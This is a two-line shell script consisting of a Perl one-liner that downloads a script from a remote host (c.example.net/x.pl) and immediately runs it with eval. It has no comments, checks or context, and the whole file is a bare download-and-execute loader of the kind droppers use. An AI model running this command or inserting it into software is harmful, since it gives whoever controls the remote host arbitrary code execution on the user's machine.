#!/bin/sh
perl -e 'use LWP::Simple; eval get("https://c.example.net/x.pl")'
